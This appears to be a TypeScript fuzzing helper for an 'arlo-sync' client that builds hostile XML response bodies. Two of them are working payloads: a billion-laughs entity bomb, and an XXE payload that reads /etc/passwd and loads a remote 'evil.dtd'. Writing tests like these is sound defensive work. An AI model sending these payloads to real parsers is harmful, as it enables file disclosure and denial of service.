/**
 * Hostile answers for fuzzing arlo-sync's client (the `hostile` knob): what a broken proxy, a hostile
 * network or a future API version could send instead of the real representation.
 */
import { Readable } from 'node:stream';

import type { HostileKind } from '../knobs';
import { cloneElement, element, leaf, type XmlElement } from '../xml/xml-node';
import { writeXml } from '../xml/xml-writer';

export function hostileBody(kind: HostileKind, xml: XmlElement, enormousBytes: number): string | Readable {
  switch (kind) {
    case 'malformed-xml': {
      const whole = writeXml(xml);
      return `${whole.slice(0, Math.max(1, Math.floor(whole.length / 2)))}<Broken attr="unterminated></`;
    }
    case 'entity-expansion':
      return billionLaughs(xml.name);
    case 'external-entity':
      return externalEntity(xml.name);
    case 'enormous':
      return enormousDocument(xml.name, enormousBytes);
    case 'unexpected-elements':
      return writeXml(withSurprises(xml));
  }
}

/** The classic exponential entity bomb: ten levels of ten references each (10^9 "lol"s if expanded). */
function billionLaughs(rootName: string): string {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE ${rootName} [${levels.join('')}]><${rootName}><Name>&lol9;</Name></${rootName}>`;
}

/**
 * XXE: an entity whose value is a local file (and a parameter entity fetching a remote DTD). A parser
 * that resolves it would put the file's content, or a request to the attacker, into the result.
 */
function externalEntity(rootName: string): string {
  return (
    `<?xml version="1.0"?><!DOCTYPE ${rootName} [<!ENTITY xxe SYSTEM "file:///etc/passwd">` +
    `<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">%remote;]>` +
    `<${rootName}><FirstName>&xxe;</FirstName></${rootName}>`
  );
}

/** A well-formed but huge document, streamed so the simulator never holds it in memory. */
function enormousDocument(rootName: string, bytes: number): Readable {
  const filler = `<Filler>${'x'.repeat(1000)}</Filler>`;
  let sent = 0;
  return new Readable({
    read() {
      if (sent === 0) {
        this.push(`<${rootName}>`);
        sent += rootName.length + 2;
      }
      for (let i = 0; i < 64 && sent < bytes; i++) {
        this.push(filler);
        sent += filler.length;
      }
      if (sent >= bytes) {
        this.push(`</${rootName}>`);
        this.push(null);
      }
    },
  });
}

/** The real representation plus elements and attributes no client knows: a tolerant reader ignores them. */
function withSurprises(xml: XmlElement): XmlElement {
  const copy = cloneElement(xml);
  copy.attributes.push(['xmlns:future', 'http://schemas.arlo.co/api/2030/01/future']);
  copy.children.unshift(element('UnexpectedElement', [['kind', 'surprise']], [leaf('Nested', 'value')]));
  copy.children.push(element('Extension', [], [element('Deep', [], [leaf('Deeper', '42')])]));
  for (const child of copy.children) {
    if (child.kind === 'element' && child.name === 'Link') child.attributes.push(['data-unexpected', 'true']);
  }
  return copy;
}
